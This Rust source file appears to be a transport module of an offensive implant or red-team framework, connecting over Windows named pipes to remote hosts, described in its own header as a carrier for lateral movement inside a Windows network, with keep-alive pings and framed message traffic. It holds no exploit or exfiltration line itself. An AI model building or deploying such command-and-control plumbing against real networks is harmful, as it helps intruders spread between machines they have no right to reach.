//! Named pipe carrier for lateral movement inside a Windows network.
//! URIs look like `namedpipe://HOST/pipe/name`; a host of `.` targets
//! the local machine.

use super::{stream, ConnectError, Connection};
use crate::{envelope::EnvelopeCodec, state};
use log::debug;
use std::{sync::Arc, time::Duration};
use tokio::net::windows::named_pipe::ClientOptions;
use tokio_util::codec::Framed;
use url::Url;

/// Interval between keep-alive pings on an idle pipe
const PING_INTERVAL: Duration = Duration::from_secs(60);

pub(super) async fn connect(uri: &Url) -> Result<Arc<Connection>, ConnectError> {
    let host = uri.host_str().unwrap_or(".");
    let name = uri.path().trim_start_matches("/pipe/").trim_start_matches('/');
    if name.is_empty() {
        return Err(ConnectError::InvalidUri);
    }

    let path = format!(r"\\{host}\pipe\{name}");
    debug!("[namedpipe] Connecting to {path}");

    let pipe = ClientOptions::new().open(&path)?;

    let io = Framed::new(pipe, EnvelopeCodec);
    let connection = stream::spawn(
        io,
        PING_INTERVAL,
        Box::new(|| debug!("[namedpipe] Lost connection, cleaning up")),
    );

    state::set_active_connection(connection.clone());
    Ok(connection)
}
